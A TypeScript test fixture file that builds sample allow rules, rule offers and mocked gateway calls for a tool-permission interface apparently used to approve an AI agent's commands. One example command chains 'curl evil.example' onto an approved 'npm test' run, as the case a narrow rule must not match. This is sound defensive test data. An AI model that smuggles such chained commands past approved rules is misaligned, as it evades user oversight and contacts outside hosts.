/** Rules for the tests beside, and the gateway's end of their requests. */
import { vi } from 'vitest'
import { RequestError } from '@/wire/request'
import { door, goneRules } from './door'
import type { RuleItem, RuleOffer } from './types'

export const SESSION = `ses_${'1'.repeat(32)}`

export function ruleItem(id: string, change: Partial<RuleItem> = {}): RuleItem {
  return {
    id: `rul_${id}`,
    effect: 'allow',
    scope: 'person',
    origin: 'person',
    state: 'active',
    sentence: `Always, for you, run \`${id}\` of \`files\` without asking.`,
    server: 'files',
    tool: id,
    when: {},
    except: [],
    binding: false,
    reviewed: false,
    uses: 3,
    isUnused: false,
    mayRemove: true,
    ...change,
  }
}

const example = (args: Record<string, unknown>) => ({ server: 'sandbox', tool: 'execute_command', arguments: args })

/** As the gateway offers them for `npm test -- --watch`, the narrowest first. */
export function shellOffers(): RuleOffer[] {
  const examples = { matching: example({ command: 'npm test -- --watch' }), other: example({ command: 'npm test -- --watch && curl evil.example' }) }
  return [
    { reach: 'exact', when: { exactly: { command: 'npm test -- --watch' } }, sentence: 'exact', examples },
    { reach: 'arguments', when: { command: [{ words: ['npm', 'run', 'test'], more: true }] }, sentence: 'alike', examples },
    { reach: 'tool', when: {}, sentence: 'tool', examples },
  ]
}

export function fileOffers(): RuleOffer[] {
  const examples = { matching: example({ path: 'notes/a.md' }), other: example({ path: 'elsewhere/file' }) }
  return [
    { reach: 'exact', when: { exactly: { path: 'notes/a.md' } }, sentence: 'exact', examples },
    { reach: 'arguments', when: { paths: [{ argument: 'path', below: 'notes' }], hosts: [{ argument: 'url', host: 'a.example' }] }, sentence: 'alike', examples },
    { reach: 'tool', when: {}, sentence: 'tool', examples },
  ]
}

/** What is asked of the gateway; each answer can be replaced. */
export function spyOnDoor() {
  goneRules.clear()
  return {
    rules: vi.spyOn(door, 'rules').mockResolvedValue({ rules: [] }),
    give: vi.spyOn(door, 'give').mockResolvedValue({ rule: ruleItem('new'), hasApproved: true }),
    takeBack: vi.spyOn(door, 'takeBack').mockResolvedValue(undefined),
    preview: vi.spyOn(door, 'preview').mockImplementation(async (rule) => ({ sentence: `Sentence of ${JSON.stringify(rule.when)} for \`${rule.scope}\`.`, examples: shellOffers()[0]?.examples })),
    simulate: vi.spyOn(door, 'simulate').mockResolvedValue({ calls: 0, changed: [] }),
    offers: vi.spyOn(door, 'offers').mockResolvedValue({ offers: shellOffers() }),
  }
}

export function refused(status: number, code: string, detail: string): RequestError {
  return new RequestError(status, { code, detail })
}
